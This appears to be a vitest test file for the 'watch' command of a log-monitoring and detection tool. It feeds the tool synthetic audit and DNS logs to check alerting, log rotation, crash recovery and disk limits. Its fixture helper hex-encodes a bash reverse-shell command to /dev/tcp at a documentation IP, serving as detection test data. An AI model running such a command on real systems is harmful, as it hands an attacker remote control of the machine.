import { spawn, type ChildProcess } from 'node:child_process';
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { hostname, tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';

const main = join(import.meta.dirname, '../src/cli/main.ts');
let folder: string;
let running: ChildProcess[] = [];
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'vakthund-watch-'));
  mkdirSync(join(folder, 'logs'));
});
afterEach(() => {
  for (const child of running) child.kill('SIGKILL');
  running = [];
  rmSync(folder, { recursive: true, force: true });
});

const reverseShell = (serial: number): string => {
  const id = `msg=audit(1795657800.123:${serial}):`;
  const command = Buffer.from('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1').toString('hex').toUpperCase();
  return [
    `type=SYSCALL ${id} arch=c000003e syscall=59 success=yes exit=0 a0=1 a1=2 a2=3 a3=4 items=2 ppid=1 pid=${serial} auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts0 ses=1 comm="bash" exe="/usr/bin/bash" key="exec"`,
    `type=EXECVE ${id} argc=3 a0="bash" a1="-c" a2=${command}`,
    `type=EOE ${id} `,
    '',
  ].join('\n');
};

interface Started {
  readonly child: ChildProcess;
  notices(): Record<string, unknown>[];
  until(isThere: (notices: Record<string, unknown>[]) => boolean): Promise<void>;
}

function start(...args: string[]): Started {
  const all = ['watch', join(folder, 'logs'), '--case', join(folder, 'case'), '--json', '--look-every', '0.1', ...args];
  const child = spawn(process.execPath, [main, ...all], { stdio: ['ignore', 'pipe', 'pipe'] });
  running.push(child);
  let [out, talk] = ['', ''];
  child.stdout.on('data', (part) => (out += String(part)));
  child.stderr.on('data', (part) => (talk += String(part)));
  const notices = (): Record<string, unknown>[] =>
    out
      .split('\n')
      .slice(0, -1)
      .map((line) => JSON.parse(line) as Record<string, unknown>);
  return {
    child,
    notices,
    async until(isThere) {
      for (let tries = 0; tries < 1200; tries++) {
        if (isThere(notices())) return;
        await sleep(50);
      }
      throw new Error(`it did not come: ${out}\n${talk}`);
    },
  };
}

const has = (type: string) => (notices: Record<string, unknown>[]) => notices.some((notice) => notice['type'] === type);

describe('watch', () => {
  it(
    'tells an alert and then the incident of a log that grows, posts it, and ends well',
    { timeout: 120_000 },
    async () => {
      const posts: Record<string, unknown>[] = [];
      const server = createServer((request, response) => {
        let body = '';
        request.on('data', (part) => (body += String(part)));
        request.on('end', () => {
          posts.push(JSON.parse(body) as Record<string, unknown>);
          response.end();
        });
      });
      await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
      const { port } = server.address() as AddressInfo;
      const log = join(folder, 'logs', 'audit.log');
      writeFileSync(log, reverseShell(1));
      const watch = start('--judge-every', '1', '--webhook', `http://127.0.0.1:${port}/`);
      await watch.until(has('status'));
      // What stood there before is an incident that stands, and no alert of now.
      expect(watch.notices()).toMatchObject([{ type: 'incident', change: 'standing' }, { type: 'status' }]);
      appendFileSync(log, reverseShell(2));
      await watch.until(has('alert'));
      expect(watch.notices()).toContainEqual(
        expect.objectContaining({ type: 'alert', severity: 'critical', host: hostname(), attack: expect.any(Array) }),
      );
      renameSync(log, `${log}.1`);
      writeFileSync(log, reverseShell(3).replace('bash -i', 'sh -i'));
      await watch.until((notices) => notices.filter(({ type }) => type === 'status').length >= 2);
      watch.child.kill('SIGTERM');
      expect(await new Promise((done) => watch.child.once('exit', done))).toBe(0);
      expect(watch.notices().filter(({ type }) => type === 'repeats').length).toBeGreaterThan(0);
      expect(posts).toContainEqual(expect.objectContaining({ type: 'alert', severity: 'critical' }));
      await new Promise((done) => server.close(done));
    },
  );

  it(
    'tells at once of what a list of indicators names, each listed thing by itself',
    { timeout: 120_000 },
    async () => {
      const log = join(folder, 'logs', 'eve.json');
      const list = join(folder, 'feed.txt');
      writeFileSync(list, 'bad-name.com\nworse-name.net\n');
      const asked = (name: string): string =>
        `${JSON.stringify({ timestamp: '2026-03-10T12:00:00.000000+0000', event_type: 'dns', src_ip: '10.0.0.7', src_port: 40_000, dest_ip: '10.0.0.1', dest_port: 53, proto: 'UDP', dns: { type: 'query', id: 1, rrname: name, rrtype: 'A' } })}\n`;
      writeFileSync(log, asked('harmless-name.org'));
      const watch = start('--indicators', list, '--judge-every', '3600');
      await watch.until(has('status'));
      appendFileSync(log, asked('a.bad-name.com') + asked('worse-name.net') + asked('harmless-name.org'));
      const alerts = () => watch.notices().filter(({ type }) => type === 'alert');
      await watch.until(() => alerts().length >= 2);
      appendFileSync(log, asked('a.bad-name.com'));
      watch.child.kill('SIGTERM');
      expect(await new Promise((done) => watch.child.once('exit', done))).toBe(0);
      expect(alerts()).toMatchObject(
        ['bad-name.com', 'worse-name.net'].map((subject) => ({
          detector: 'analytics/indicator',
          subject,
          host: '10.0.0.7',
        })),
      );
    },
  );

  it('forgets what is beyond the disk of its class, and says so', { timeout: 120_000 }, async () => {
    writeFileSync(join(folder, 'logs', 'audit.log'), reverseShell(1) + reverseShell(2));
    const config = join(folder, 'vakthund.yaml');
    writeFileSync(config, 'store: { seal_rows: 0 }\nwatch: { keep_bytes: { security: 1e2, network: 2e9 } }\n');
    const watch = start('--config', config);
    await watch.until(has('forgotten'));
    const time = 1_795_657_800_123_000;
    expect(watch.notices().filter(({ type }) => type === 'forgotten')).toMatchObject([
      { because: 'disk', kinds: ['process'], count: 2, first: time, last: time },
    ]);
    watch.child.kill('SIGTERM');
    expect(await new Promise((done) => watch.child.once('exit', done))).toBe(0);
  });

  it('tells what came while it did not run, and nothing of it twice', { timeout: 180_000 }, async () => {
    const log = join(folder, 'logs', 'audit.log');
    writeFileSync(log, reverseShell(1));
    const alertsOf = async (end: 'SIGKILL' | 'SIGTERM'): Promise<Record<string, unknown>[]> => {
      const watch = start('--repeat-window', '0.1');
      await watch.until(has('status'));
      watch.child.kill(end);
      await new Promise((done) => watch.child.once('exit', done));
      return watch.notices().filter(({ type }) => type === 'alert');
    };
    const isOfWatch = ({ evidence }: Record<string, unknown>): boolean => (evidence as { path: string }).path !== log;
    expect(await alertsOf('SIGKILL')).toEqual([]);
    appendFileSync(log, reverseShell(2));
    const all = await alertsOf('SIGTERM');
    expect(all.filter(isOfWatch)).toMatchObject([{ title: 'Watch killed', severity: 'medium' }]);
    const told = all.filter((alert) => !isOfWatch(alert));
    expect(told.length).toBeGreaterThan(0);
    // The second command begins at the fourth line.
    for (const { evidence } of told) expect(evidence).toEqual({ path: log, at: 4 });
    // Rotated meanwhile: another content stands in its place.
    renameSync(log, `${log}.1`);
    writeFileSync(log, reverseShell(3));
    expect((await alertsOf('SIGTERM')).length).toBe(told.length);
    expect(await alertsOf('SIGTERM')).toEqual([]);
  });

  it('loses nothing and repeats nothing when it is killed', { timeout: 180_000 }, async () => {
    const log = join(folder, 'logs', 'audit.log');
    writeFileSync(log, '');
    let serial = 0;
    for (let round = 0; round < 3; round++) {
      const watch = start('--judge-every', '3600');
      await watch.until(has('status'));
      for (let line = 0; line < 20; line++) {
        appendFileSync(log, reverseShell(++serial));
        await sleep(20);
      }
      watch.child.kill('SIGKILL');
      await new Promise((done) => watch.child.once('exit', done));
    }
    const last = start('--judge-every', '1', '--for', '0.1');
    await new Promise((done) => last.child.once('exit', done));
    const hunt = spawn(process.execPath, [
      main,
      'hunt',
      'SELECT count(*) AS n, count(DISTINCT process_pid) AS d FROM process',
      '--json',
      '--case',
      join(folder, 'case'),
    ]);
    let out = '';
    hunt.stdout.on('data', (part) => (out += String(part)));
    await new Promise((done) => hunt.once('exit', done));
    expect(JSON.parse(out)).toMatchObject({ rows: [{ n: serial, d: serial }] });
    expect(readFileSync(log, 'utf8').length).toBeGreaterThan(0);
  });
});
